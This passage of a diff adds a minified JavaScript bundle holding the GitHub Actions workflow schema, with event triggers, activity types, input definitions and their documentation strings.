+[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#name)`,string:{}},"workflow-description":{description:"A description for your workflow or reusable workflow",string:{}},"run-name":{context:["github","inputs","vars"],string:{},description:`The name for workflow runs generated from the workflow. GitHub displays the workflow run name in the list of workflow runs on your repository's 'Actions' tab.
+
+[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#run-name)`},on:{description:`The GitHub event that triggers the workflow. Events can be a single string, array of events, array of event types, or an event configuration map that schedules a workflow or restricts the execution of a workflow to specific files, tags, or branch changes. View a full list of [events that trigger workflows](https://docs.github.com/actions/using-workflows/events-that-trigger-workflows).
+
+[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#on)`,"one-of":["string","sequence","on-mapping"]},"on-mapping":{mapping:{properties:{workflow_call:"workflow-call"},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"on-strict":{description:`The GitHub event that triggers the workflow.  Events can be a single string, array of events, array of event types, or an event configuration map that schedules a workflow or restricts the execution of a workflow to specific files, tags, or branch changes. View a full list of [events that trigger workflows](https://docs.github.com/actions/using-workflows/events-that-trigger-workflows).
+
+[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#on)`,"one-of":["on-string-strict","on-sequence-strict","on-mapping-strict"]},"on-mapping-strict":{description:`The GitHub event that triggers the workflow.  Events can be a single string, array of events, array of event types, or an event configuration map that schedules a workflow or restricts the execution of a workflow to specific files, tags, or branch changes. View a full list of [events that trigger workflows](https://docs.github.com/actions/using-workflows/events-that-trigger-workflows).
+
+[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#on)`,mapping:{properties:{branch_protection_rule:"branch-protection-rule",check_run:"check-run",check_suite:"check-suite",create:"create",delete:"delete",deployment:"deployment",deployment_status:"deployment-status",discussion:"discussion",discussion_comment:"discussion-comment",fork:"fork",gollum:"gollum",image_version:"image-version",issue_comment:"issue-comment",issues:"issues",label:"label",merge_group:"merge-group",milestone:"milestone",page_build:"page-build",project:"project",project_card:"project-card",project_column:"project-column",public:"public",pull_request:"pull-request",pull_request_comment:"pull-request-comment",pull_request_review:"pull-request-review",pull_request_review_comment:"pull-request-review-comment",pull_request_target:"pull-request-target",push:"push",registry_package:"registry-package",release:"release",repository_dispatch:"repository-dispatch",schedule:"schedule",status:"status",watch:"watch",workflow_call:"workflow-call",workflow_dispatch:"workflow-dispatch",workflow_run:"workflow-run"}}},"on-string-strict":{"one-of":["branch-protection-rule-string","check-run-string","check-suite-string","create-string","delete-string","deployment-string","deployment-status-string","discussion-string","discussion-comment-string","fork-string","gollum-string","image-version-string","issue-comment-string","issues-string","label-string","merge-group-string","milestone-string","page-build-string","project-string","project-card-string","project-column-string","public-string","pull-request-string","pull-request-comment-string","pull-request-review-string","pull-request-review-comment-string","pull-request-target-string","push-string","registry-package-string","release-string","repository-dispatch-string","schedule-string","status-string","watch-string","workflow-call-string","workflow-dispatch-string","workflow-run-string"]},"on-sequence-strict":{sequence:{"item-type":"on-string-strict"}},"branch-protection-rule-string":{description:"Runs your workflow when branch protection rules in the workflow repository are changed.",string:{constant:"branch_protection_rule"}},"branch-protection-rule":{description:"Runs your workflow when branch protection rules in the workflow repository are changed.","one-of":["null","branch-protection-rule-mapping"]},"branch-protection-rule-mapping":{mapping:{properties:{types:"branch-protection-rule-activity"}}},"branch-protection-rule-activity":{description:"The types of branch protection rule activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["branch-protection-rule-activity-type","branch-protection-rule-activity-types"]},"branch-protection-rule-activity-types":{sequence:{"item-type":"branch-protection-rule-activity-type"}},"branch-protection-rule-activity-type":{"allowed-values":["created","edited","deleted"]},"check-run-string":{description:"Runs your workflow when activity related to a check run occurs. A check run is an individual test that is part of a check suite.",string:{constant:"check_run"}},"check-run":{description:"Runs your workflow when activity related to a check run occurs. A check run is an individual test that is part of a check suite.","one-of":["null","check-run-mapping"]},"check-run-mapping":{mapping:{properties:{types:"check-run-activity"}}},"check-run-activity":{description:"The types of check run activity that trigger the workflow. Supported activity types: `created`, `rerequested`, `completed`, `requested_action`.","one-of":["check-run-activity-type","check-run-activity-types"]},"check-run-activity-types":{sequence:{"item-type":"check-run-activity-type"}},"check-run-activity-type":{"allowed-values":["completed","created","rerequested","requested_action"]},"check-suite-string":{description:"Runs your workflow when check suite activity occurs. A check suite is a collection of the check runs created for a specific commit. Check suites summarize the status and conclusion of the check runs that are in the suite.",string:{constant:"check_suite"}},"check-suite":{description:"Runs your workflow when check suite activity occurs. A check suite is a collection of the check runs created for a specific commit. Check suites summarize the status and conclusion of the check runs that are in the suite.","one-of":["null","check-suite-mapping"]},"check-suite-mapping":{mapping:{properties:{types:"check-suite-activity"}}},"check-suite-activity":{description:"The types of check suite activity that trigger the workflow. Supported activity types: `completed`.","one-of":["check-suite-activity-type","check-suite-activity-types"]},"check-suite-activity-types":{sequence:{"item-type":"check-suite-activity-type"}},"check-suite-activity-type":{"allowed-values":["completed"]},"create-string":{description:"Runs your workflow when someone creates a Git reference (Git branch or tag) in the workflow's repository.",string:{constant:"create"}},create:{description:"Runs your workflow when someone creates a Git reference (Git branch or tag) in the workflow's repository.",null:{}},"delete-string":{description:"Runs your workflow when someone deletes a Git reference (Git branch or tag) in the workflow's repository.",string:{constant:"delete"}},delete:{description:"Runs your workflow when someone deletes a Git reference (Git branch or tag) in the workflow's repository.",null:{}},"deployment-string":{description:"Runs your workflow when someone creates a deployment in the workflow's repository. Deployments created with a commit SHA may not have a Git ref.",string:{constant:"deployment"}},deployment:{description:"Runs your workflow when someone creates a deployment in the workflow's repository. Deployments created with a commit SHA may not have a Git ref.",null:{}},"deployment-status-string":{description:"Runs your workflow when a third party provides a deployment status. Deployments created with a commit SHA may not have a Git ref.",string:{constant:"deployment_status"}},"deployment-status":{description:"Runs your workflow when a third party provides a deployment status. Deployments created with a commit SHA may not have a Git ref.",null:{}},"discussion-string":{description:"Runs your workflow when a discussion in the workflow's repository is created or modified. For activity related to comments on a discussion, use the `discussion_comment` event.",string:{constant:"discussion"}},discussion:{description:"Runs your workflow when a discussion in the workflow's repository is created or modified. For activity related to comments on a discussion, use the `discussion_comment` event.","one-of":["null","discussion-mapping"]},"discussion-mapping":{mapping:{properties:{types:"discussion-activity"}}},"discussion-activity":{description:"The types of discussion activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`, `transferred`, `pinned`, `unpinned`, `labeled`, `unlabeled`, `locked`, `unlocked`, `category_changed`, `answered`, `unanswered`.","one-of":["discussion-activity-type","discussion-activity-types"]},"discussion-activity-types":{sequence:{"item-type":"discussion-activity-type"}},"discussion-activity-type":{"allowed-values":["created","edited","deleted","transferred","pinned","unpinned","labeled","unlabeled","locked","unlocked","category_changed","answered","unanswered"]},"discussion-comment-string":{description:"Runs your workflow when a comment on a discussion in the workflow's repository is created or modified. For activity related to a discussion as opposed to comments on the discussion, use the `discussion` event.",string:{constant:"discussion_comment"}},"discussion-comment":{description:"Runs your workflow when a comment on a discussion in the workflow's repository is created or modified. For activity related to a discussion as opposed to comments on the discussion, use the `discussion` event.","one-of":["null","discussion-comment-mapping"]},"discussion-comment-mapping":{mapping:{properties:{types:"discussion-comment-activity"}}},"discussion-comment-activity":{description:"The types of discussion comment activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["discussion-comment-activity-type","discussion-comment-activity-types"]},"discussion-comment-activity-types":{sequence:{"item-type":"discussion-comment-activity-type"}},"discussion-comment-activity-type":{"allowed-values":["created","edited","deleted"]},"fork-string":{description:"Runs your workflow when someone forks a repository.",string:{constant:"fork"}},fork:{description:"Runs your workflow when someone forks a repository.",null:{}},"gollum-string":{description:"Runs your workflow when someone creates or updates a Wiki page.",string:{constant:"gollum"}},gollum:{description:"Runs your workflow when someone creates or updates a Wiki page.",null:{}},"image-version-string":{description:"Runs your workflow when an image version is created or changes state.",string:{constant:"image_version"}},"image-version":{description:"Runs your workflow when an image version is created or changes state.","one-of":["null","image-version-mapping"]},"image-version-mapping":{mapping:{properties:{types:"image-version-activity",names:"event-names",versions:"event-versions"}}},"image-version-activity":{description:"The types of image version activity that trigger the workflow. Supported activity types: `created`, `ready`, `deleted`.","one-of":["image-version-activity-type","image-version-activity-types"]},"image-version-activity-types":{sequence:{"item-type":"image-version-activity-type"}},"image-version-activity-type":{"allowed-values":["created","ready","deleted"]},"issue-comment-string":{description:"Runs your workflow when an issue or pull request comment is created, edited, or deleted.",string:{constant:"issue_comment"}},"issue-comment":{description:"Runs your workflow when an issue or pull request comment is created, edited, or deleted.","one-of":["null","issue-comment-mapping"]},"issue-comment-mapping":{mapping:{properties:{types:"issue-comment-activity"}}},"issue-comment-activity":{description:"The types of issue comment activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["issue-comment-activity-type","issue-comment-activity-types"]},"issue-comment-activity-types":{sequence:{"item-type":"issue-comment-activity-type"}},"issue-comment-activity-type":{"allowed-values":["created","edited","deleted"]},"issues-string":{description:"Runs your workflow when an issue in the workflow's repository is created or modified. For activity related to comments in an issue, use the `issue_comment` event.",string:{constant:"issues"}},issues:{description:"Runs your workflow when an issue in the workflow's repository is created or modified. For activity related to comments in an issue, use the `issue_comment` event.","one-of":["null","issues-mapping"]},"issues-mapping":{mapping:{properties:{types:"issues-activity"}}},"issues-activity":{description:"The types of issue activity that trigger the workflow. Supported activity types: `opened`, `edited`, `deleted`, `transferred`, `pinned`, `unpinned`, `closed`, `reopened`, `assigned`, `unassigned`, `labeled`, `unlabeled`, `locked`, `unlocked`, `milestoned`, `demilestoned`, `field_added`, `field_removed`, `typed`, `untyped`.","one-of":["issues-activity-type","issues-activity-types"]},"issues-activity-types":{sequence:{"item-type":"issues-activity-type"}},"issues-activity-type":{"allowed-values":["opened","edited","deleted","transferred","pinned","unpinned","closed","reopened","assigned","unassigned","labeled","unlabeled","locked","unlocked","milestoned","demilestoned","field_added","field_removed","typed","untyped"]},"label-string":{description:"Runs your workflow when a label in your workflow's repository is created or modified.",string:{constant:"label"}},label:{description:"Runs your workflow when a label in your workflow's repository is created or modified.","one-of":["null","label-mapping"]},"label-mapping":{mapping:{properties:{types:"label-activity"}}},"label-activity":{description:"The types of label activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["label-activity-type","label-activity-types"]},"label-activity-types":{sequence:{"item-type":"label-activity-type"}},"label-activity-type":{"allowed-values":["created","edited","deleted"]},"merge-group-string":{description:"Runs your workflow when a pull request is added to a merge queue, which adds the pull request to a merge group.",string:{constant:"merge_group"}},"merge-group":{description:"Runs your workflow when a pull request is added to a merge queue, which adds the pull request to a merge group.","one-of":["null","merge-group-mapping"]},"merge-group-mapping":{mapping:{properties:{types:"merge-group-activity",branches:"event-branches","branches-ignore":"event-branches-ignore"}}},"merge-group-activity":{description:"The types of merge group activity that trigger the workflow. Supported activity types: `checks_requested`.","one-of":["merge-group-activity-type","merge-group-activity-types"]},"merge-group-activity-types":{sequence:{"item-type":"merge-group-activity-type"}},"merge-group-activity-type":{"allowed-values":["checks_requested"]},"milestone-string":{description:"Runs your workflow when a milestone in the workflow's repository is created or modified.",string:{constant:"milestone"}},milestone:{description:"Runs your workflow when a milestone in the workflow's repository is created or modified.","one-of":["null","milestone-mapping"]},"milestone-mapping":{mapping:{properties:{types:"milestone-activity"}}},"milestone-activity":{description:"The types of milestone activity that trigger the workflow. Supported activity types: `created`, `closed`, `opened`, `edited`, `deleted`.","one-of":["milestone-activity-type","milestone-activity-types"]},"milestone-activity-types":{sequence:{"item-type":"milestone-activity-type"}},"milestone-activity-type":{"allowed-values":["created","closed","opened","edited","deleted"]},"page-build-string":{description:"Runs your workflow when someone pushes to a branch that is the publishing source for GitHub Pages, if GitHub Pages is enabled for the repository.",string:{constant:"page_build"}},"page-build":{description:"Runs your workflow when someone pushes to a branch that is the publishing source for GitHub Pages, if GitHub Pages is enabled for the repository.",null:{}},"project-string":{description:"Runs your workflow when a project board is created or modified. For activity related to cards or columns in a project board, use the `project_card` or `project_column` events instead.",string:{constant:"project"}},project:{description:"Runs your workflow when a project board is created or modified. For activity related to cards or columns in a project board, use the `project_card` or `project_column` events instead.","one-of":["null","project-mapping"]},"project-mapping":{mapping:{properties:{types:"project-activity"}}},"project-activity":{description:"The types of project activity that trigger the workflow. Supported activity types: `created`, `closed`, `reopened`, `edited`, `deleted`.","one-of":["project-activity-type","project-activity-types"]},"project-activity-types":{sequence:{"item-type":"project-activity-type"}},"project-activity-type":{"allowed-values":["created","closed","reopened","edited","deleted"]},"project-card-string":{description:"Runs your workflow when a card on a project board is created or modified. For activity related to project boards or columns in a project board, use the `project` or `project_column` event instead.",string:{constant:"project_card"}},"project-card":{description:"Runs your workflow when a card on a project board is created or modified. For activity related to project boards or columns in a project board, use the `project` or `project_column` event instead.","one-of":["null","project-card-mapping"]},"project-card-mapping":{mapping:{properties:{types:"project-card-activity"}}},"project-card-activity":{description:"The types of project card activity that trigger the workflow. Supported activity types: `created`, `moved`, `converted`, `edited`, `deleted`.","one-of":["project-card-activity-type","project-card-activity-types"]},"project-card-activity-types":{sequence:{"item-type":"project-card-activity-type"}},"project-card-activity-type":{"allowed-values":["created","moved","converted","edited","deleted"]},"project-column-string":{description:"Runs your workflow when a column on a project board is created or modified. For activity related to project boards or cards in a project board, use the `project` or `project_card` event instead.",string:{constant:"project_column"}},"project-column":{description:"Runs your workflow when a column on a project board is created or modified. For activity related to project boards or cards in a project board, use the `project` or `project_card` event instead.","one-of":["null","project-column-mapping"]},"project-column-mapping":{mapping:{properties:{types:"project-column-activity"}}},"project-column-activity":{description:"The types of project column activity that trigger the workflow. Supported activity types: `created`, `updated`, `moved`, `deleted`.","one-of":["project-column-activity-type","project-column-activity-types"]},"project-column-activity-types":{sequence:{"item-type":"project-column-activity-type"}},"project-column-activity-type":{"allowed-values":["created","updated","moved","deleted"]},"public-string":{description:"Runs your workflow when your workflow's repository changes from private to public.",string:{constant:"public"}},public:{description:"Runs your workflow when your workflow's repository changes from private to public.",null:{}},"pull-request-string":{description:"Runs your workflow when activity on a pull request in the workflow's repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.",string:{constant:"pull_request"}},"pull-request":{description:"Runs your workflow when activity on a pull request in the workflow's repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.","one-of":["null","pull-request-mapping"]},"pull-request-mapping":{mapping:{properties:{types:"pull-request-activity",branches:"event-branches","branches-ignore":"event-branches-ignore",paths:"event-paths","paths-ignore":"event-paths-ignore"}}},"pull-request-activity":{description:"The types of pull request activity that trigger the workflow. Supported activity types: `assigned`, `unassigned`, `labeled`, `unlabeled`, `opened`, `edited`, `closed`, `reopened`, `synchronize`, `converted_to_draft`, `locked`, `unlocked`, `enqueued`, `dequeued`, `milestoned`, `demilestoned`, `ready_for_review`, `review_requested`, `review_request_removed`, `auto_merge_enabled`, `auto_merge_disabled`, `stacked`.","one-of":["pull-request-activity-type","pull-request-activity-types"]},"pull-request-activity-types":{sequence:{"item-type":"pull-request-activity-type"}},"pull-request-activity-type":{"allowed-values":["assigned","unassigned","labeled","unlabeled","opened","edited","closed","reopened","synchronize","converted_to_draft","locked","unlocked","enqueued","dequeued","milestoned","demilestoned","ready_for_review","review_requested","review_request_removed","auto_merge_enabled","auto_merge_disabled","stacked"]},"pull-request-comment-string":{description:"Please use the `issue_comment` event instead.",string:{constant:"pull_request_comment"}},"pull-request-comment":{description:"Please use the `issue_comment` event instead.","one-of":["null","issue-comment-mapping"]},"pull-request-review-string":{description:"Runs your workflow when a pull request review is submitted, edited, or dismissed. A pull request review is a group of pull request review comments in addition to a body comment and a state. For activity related to pull request review comments or pull request comments, use the `pull_request_review_comment` or `issue_comment` events instead.",string:{constant:"pull_request_review"}},"pull-request-review":{description:"Runs your workflow when a pull request review is submitted, edited, or dismissed. A pull request review is a group of pull request review comments in addition to a body comment and a state. For activity related to pull request review comments or pull request comments, use the `pull_request_review_comment` or `issue_comment` events instead.","one-of":["null","pull-request-review-mapping"]},"pull-request-review-mapping":{mapping:{properties:{types:"pull-request-review-activity"}}},"pull-request-review-activity":{description:"The types of pull request review activity that trigger the workflow. Supported activity types: `submitted`, `edited`, `dismissed`.","one-of":["pull-request-review-activity-type","pull-request-review-activity-types"]},"pull-request-review-activity-types":{sequence:{"item-type":"pull-request-review-activity-type"}},"pull-request-review-activity-type":{"allowed-values":["submitted","edited","dismissed"]},"pull-request-review-comment-string":{description:"",string:{constant:"pull_request_review_comment"}},"pull-request-review-comment":{description:"","one-of":["null","pull-request-review-comment-mapping"]},"pull-request-review-comment-mapping":{mapping:{properties:{types:"pull-request-review-comment-activity"}}},"pull-request-review-comment-activity":{description:"The types of pull request review comment activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["pull-request-review-comment-activity-type","pull-request-review-comment-activity-types"]},"pull-request-review-comment-activity-types":{sequence:{"item-type":"pull-request-review-comment-activity-type"}},"pull-request-review-comment-activity-type":{"allowed-values":["created","edited","deleted"]},"pull-request-target-string":{description:"Runs your workflow when activity on a pull request in the workflow's repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.\n\nThis event runs in the context of the base of the pull request, rather than in the context of the merge commit, as the `pull_request` event does. This prevents execution of unsafe code from the head of the pull request that could alter your repository or steal any secrets you use in your workflow. This event allows your workflow to do things like label or comment on pull requests from forks. Avoid using this event if you need to build or run code from the pull request.",string:{constant:"pull_request_target"}},"pull-request-target":{description:"Runs your workflow when activity on a pull request in the workflow's repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.\n\nThis event runs in the context of the base of the pull request, rather than in the context of the merge commit, as the `pull_request` event does. This prevents execution of unsafe code from the head of the pull request that could alter your repository or steal any secrets you use in your workflow. This event allows your workflow to do things like label or comment on pull requests from forks. Avoid using this event if you need to build or run code from the pull request.","one-of":["null","pull-request-target-mapping"]},"pull-request-target-mapping":{mapping:{properties:{types:"pull-request-target-activity",branches:"event-branches","branches-ignore":"event-branches-ignore",paths:"event-paths","paths-ignore":"event-paths-ignore"}}},"pull-request-target-activity":{description:"The types of pull request activity that trigger the workflow. Supported activity types: `assigned`, `unassigned`, `labeled`, `unlabeled`, `opened`, `edited`, `closed`, `reopened`, `synchronize`, `converted_to_draft`, `locked`, `unlocked`, `enqueued`, `dequeued`, `milestoned`, `demilestoned`, `ready_for_review`, `review_requested`, `review_request_removed`, `auto_merge_enabled`, `auto_merge_disabled`, `stacked`.","one-of":["pull-request-target-activity-type","pull-request-target-activity-types"]},"pull-request-target-activity-types":{sequence:{"item-type":"pull-request-target-activity-type"}},"pull-request-target-activity-type":{"allowed-values":["assigned","unassigned","labeled","unlabeled","opened","edited","closed","reopened","synchronize","converted_to_draft","locked","unlocked","enqueued","dequeued","milestoned","demilestoned","ready_for_review","review_requested","review_request_removed","auto_merge_enabled","auto_merge_disabled","stacked"]},"push-string":{description:"Runs your workflow when you push a commit or tag.",string:{constant:"push"}},push:{description:"Runs your workflow when you push a commit or tag.","one-of":["null","push-mapping"]},"push-mapping":{mapping:{properties:{branches:"event-branches","branches-ignore":"event-branches-ignore",tags:"event-tags","tags-ignore":"event-tags-ignore",paths:"event-paths","paths-ignore":"event-paths-ignore"}}},"registry-package-string":{description:"Runs your workflow when activity related to GitHub Packages occurs in your repository.",string:{constant:"registry_package"}},"registry-package":{description:"Runs your workflow when activity related to GitHub Packages occurs in your repository.","one-of":["null","registry-package-mapping"]},"registry-package-mapping":{mapping:{properties:{types:"registry-package-activity"}}},"registry-package-activity":{description:"The types of registry package activity that trigger the workflow. Supported activity types: `published`, `updated`.","one-of":["registry-package-activity-type","registry-package-activity-types"]},"registry-package-activity-types":{sequence:{"item-type":"registry-package-activity-type"}},"registry-package-activity-type":{"allowed-values":["published","updated"]},"release-string":{description:"Runs your workflow when release activity in your repository occurs.",string:{constant:"release"}},release:{description:"Runs your workflow when release activity in your repository occurs.","one-of":["null","release-mapping"]},"release-mapping":{mapping:{properties:{types:"release-activity"}}},"release-activity":{description:"The types of release activity that trigger the workflow. Supported activity types: `published`, `unpublished`, `created`, `edited`, `deleted`, `prereleased`, `released`.","one-of":["release-activity-type","release-activity-types"]},"release-activity-types":{sequence:{"item-type":"release-activity-type"}},"release-activity-type":{"allowed-values":["published","unpublished","created","edited","deleted","prereleased","released"]},"schedule-string":{description:"The `schedule` event allows you to trigger a workflow at a scheduled time.\n\nYou can schedule a workflow to run at specific UTC times using POSIX cron syntax. Scheduled workflows run on the latest commit on the default or base branch. The shortest interval you can run scheduled workflows is once every 5 minutes. GitHub Actions does not support the non-standard syntax `@yearly`, `@monthly`, `@weekly`, `@daily`, `@hourly`, and `@reboot`.",string:{constant:"schedule"}},schedule:{description:"The `schedule` event allows you to trigger a workflow at a scheduled time.\n\nYou can schedule a workflow to run at specific UTC times using POSIX cron syntax. Scheduled workflows run on the latest commit on the default or base branch. The shortest interval you can run scheduled workflows is once every 5 minutes. GitHub Actions does not support the non-standard syntax `@yearly`, `@monthly`, `@weekly`, `@daily`, `@hourly`, and `@reboot`.",sequence:{"item-type":"cron-mapping"}},"status-string":{description:"Runs your workflow when the status of a Git commit changes. For example, commits can be marked as `error`, `failure`, `pending`, or `success`. If you want to provide more details about the status change, you may want to use the `check_run` event.",string:{constant:"status"}},status:{description:"Runs your workflow when the status of a Git commit changes. For example, commits can be marked as `error`, `failure`, `pending`, or `success`. If you want to provide more details about the status change, you may want to use the `check_run` event.",null:{}},"watch-string":{description:"Runs your workflow when the workflow's repository is starred.",string:{constant:"watch"}},watch:{description:"Runs your workflow when the workflow's repository is starred.","one-of":["null","watch-mapping"]},"watch-mapping":{mapping:{properties:{types:"watch-activity"}}},"watch-activity":{description:"The types of watch activity that trigger the workflow. Supported activity types: `started`.","one-of":["watch-activity-type","watch-activity-types"]},"watch-activity-types":{sequence:{"item-type":"watch-activity-type"}},"watch-activity-type":{"allowed-values":["started"]},"workflow-run-string":{description:"This event occurs when a workflow run is requested or completed. It allows you to execute a workflow based on execution or completion of another workflow. The workflow started by the `workflow_run` event is able to access secrets and write tokens, even if the previous workflow was not. This is useful in cases where the previous workflow is intentionally not privileged, but you need to take a privileged action in a later workflow.",string:{constant:"workflow_run"}},"workflow-run":{description:"This event occurs when a workflow run is requested or completed. It allows you to execute a workflow based on execution or completion of another workflow. The workflow started by the `workflow_run` event is able to access secrets and write tokens, even if the previous workflow was not. This is useful in cases where the previous workflow is intentionally not privileged, but you need to take a privileged action in a later workflow.","one-of":["null","workflow-run-mapping"]},"workflow-run-mapping":{mapping:{properties:{types:"workflow-run-activity",workflows:"workflow-run-workflows",branches:"event-branches","branches-ignore":"event-branches-ignore"}}},"workflow-run-workflows":{description:"The name of the workflow that triggers the `workflow_run` event. The workflow must be in the same repository as the workflow that uses the `workflow_run` event.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"workflow-run-activity":{description:"The types of workflow run activity that trigger the workflow. Supported activity types: `completed`, `requested`, `in_progress`.","one-of":["workflow-run-activity-type","workflow-run-activity-types"]},"workflow-run-activity-types":{sequence:{"item-type":"workflow-run-activity-type"}},"workflow-run-activity-type":{"allowed-values":["requested","completed","in_progress"]},"event-branches":{description:"Use the `branches` filter when you want to include branch name patterns or when you want to both include and exclude branch name patterns. You cannot use both the `branches` and `branches-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-branches-ignore":{description:"Use the `branches-ignore` filter when you only want to exclude branch name patterns. You cannot use both the `branches` and `branches-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-names":{description:"Use the `names` filter when you want to include names via patterns or when you want to both include and exclude names using patterns. ","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-tags":{description:"Use the `tags` filter when you want to include tag name patterns or when you want to both include and exclude tag names patterns. You cannot use both the `tags` and `tags-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-tags-ignore":{description:"Use the `tags-ignore` filter when you only want to exclude tag name patterns. You cannot use both the `tags` and `tags-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-paths":{description:"Use the `paths` filter when you want to include file path patterns or when you want to both include and exclude file path patterns. You cannot use both the `paths` and `paths-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-paths-ignore":{description:"Use the `paths-ignore` filter when you only want to exclude file path patterns. You cannot use both the `paths` and `paths-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-versions":{description:"Use the `versions` filter when you want to include versions via patterns or when you want to both include and exclude versions using patterns. ","one-of":["non-empty-string","sequence-of-non-empty-string"]},"repository-dispatch-string":{description:"You can use the GitHub API to trigger a webhook event called `repository_dispatch` when you want to trigger a workflow for activity that happens outside of GitHub.",string:{constant:"branch_protection_rule"}},"repository-dispatch":{description:"You can use the GitHub API to trigger a webhook event called `repository_dispatch` when you want to trigger a workflow for activity that happens outside of GitHub.","one-of":["null","repository-dispatch-mapping"]},"repository-dispatch-mapping":{mapping:{properties:{types:"sequence-of-non-empty-string"}}},"workflow-call-string":{description:"The `workflow_call` event is used to indicate that a workflow can be called by another workflow. When a workflow is triggered with the `workflow_call` event, the event payload in the called workflow is the same event payload from the calling workflow.",string:{constant:"workflow_call"}},"workflow-call":{description:"The `workflow_call` event is used to indicate that a workflow can be called by another workflow. When a workflow is triggered with the `workflow_call` event, the event payload in the called workflow is the same event payload from the calling workflow.","one-of":["null","workflow-call-mapping"]},"workflow-call-mapping":{mapping:{properties:{inputs:"workflow-call-inputs",secrets:"workflow-call-secrets",outputs:"workflow-call-outputs"}}},"workflow-call-inputs":{description:"Inputs that are passed to the called workflow from the caller workflow.",mapping:{"loose-key-type":"non-empty-string","loose-value-type":"workflow-call-input-definition"}},"workflow-call-input-definition":{mapping:{properties:{description:{type:"string",description:"A string description of the input parameter."},type:{type:"workflow-call-input-type",required:!0},required:{type:"boolean",description:"A boolean to indicate whether the action requires the input parameter. Set to `true` when the parameter is required."},default:"workflow-call-input-default"}}},"workflow-call-input-type":{description:"Required if input is defined for the `on.workflow_call` keyword. The value of this parameter is a string specifying the data type of the input. This must be one of: `boolean`, `number`, or `string`.","one-of":["input-type-string","input-type-boolean","input-type-number"]},"input-type-string":{string:{constant:"string"}},"input-type-boolean":{string:{constant:"boolean"}},"input-type-number":{string:{constant:"number"}},"input-type-choice":{string:{constant:"choice"}},"input-type-environment":{string:{constant:"environment"}},"workflow-call-input-default":{description:'If a `default` parameter is not set, the default value of the input is `false` for boolean, `0` for a number, and `""` for a string.',context:["github","inputs","vars"],"one-of":["string","boolean","number"]},"workflow-call-secrets":{description:"A map of the secrets that can be used in the called workflow. Within the called workflow, you can use the `secrets` context to refer to a secret.",mapping:{"loose-key-type":"workflow-call-secret-name","loose-value-type":"workflow-call-secret-definition"}},"workflow-call-secret-name":{string:{"require-non-empty":!0},description:"A string identifier to associate with the secret."},"workflow-call-secret-definition":{"one-of":["null","workflow-call-secret-mapping-definition"]},"workflow-call-secret-mapping-definition":{mapping:{properties:{description:{type:"string",description:"A string description of the secret parameter."},required:{type:"boolean",description:"A boolean specifying whether the secret must be supplied."}}}},"workflow-call-outputs":{description:"A reusable workflow may generate data that you want to use in the caller workflow. To use these outputs, you must specify them as the outputs of the reusable workflow.",mapping:{"loose-key-type":"workflow-call-output-name","loose-value-type":"workflow-call-output-definition"}},"workflow-call-output-name":{string:{"require-non-empty":!0},description:"A string identifier to associate with the output. The value of `<output_id>` is a map of the input's metadata. The `<output_id>` must be a unique identifier within the outputs object and must start with a letter or _ and contain only alphanumeric characters, -, or _."},"workflow-call-output-definition":{mapping:{properties:{description:{type:"string",description:"A string description of the output parameter."},value:{type:"workflow-output-context",required:!0}}}},"workflow-output-context":{description:"The value to assign to the output parameter.",context:["github","inputs","vars","jobs"],string:{}},"workflow-dispatch-string":{description:"The `workflow_dispatch` event allows you to manually trigger a workflow run. A workflow can be manually triggered using the GitHub API, GitHub CLI, or GitHub browser interface.",string:{constant:"workflow_dispatch"}},"workflow-dispatch":{description:"The `workflow_dispatch` event allows you to manually trigger a workflow run. A workflow can be manually triggered using the GitHub API, GitHub CLI, or GitHub browser interface.","one-of":["null","workflow-dispatch-mapping"]},"workflow-dispatch-mapping":{mapping:{properties:{inputs:"workflow-dispatch-inputs"}}},"workflow-dispatch-inputs":{description:"You can configure custom-defined input properties, default input values, and required inputs for the event directly in your workflow. When you trigger the event, you can provide the `ref` and any `inputs`. When the workflow runs, you can access the input values in the `inputs` context.",mapping:{"loose-key-type":"workflow-dispatch-input-name","loose-value-type":"workflow-dispatch-input"}},"workflow-dispatch-input-name":{string:{"require-non-empty":!0},description:"A string identifier to associate with the input. The value of <input_id> is a map of the input's metadata. The <input_id> must be a unique identifier within the inputs object. The <input_id> must start with a letter or _ and contain only alphanumeric characters, -, or _."},"workflow-dispatch-input":{mapping:{properties:{description:{type:"string",description:"A string description of the input parameter."},type:{type:"workflow-dispatch-input-type"},required:{type:"boolean",description:"A boolean to indicate whether the workflow requires the input parameter. Set to true when the parameter is required."},default:"workflow-dispatch-input-default",options:{type:"sequence-of-string",description:"The options of the dropdown list, if the type is a choice."}}}},"workflow-dispatch-input-type":{description:"A string representing the type of the input. This must be one of: `boolean`, `number`, `string`, `choice`, or `environment`.","one-of":["input-type-string","input-type-boolean","input-type-number","input-type-environment","input-type-choice"]},"workflow-dispatch-input-default":{description:"The default value is used when an input parameter isn't specified in a workflow 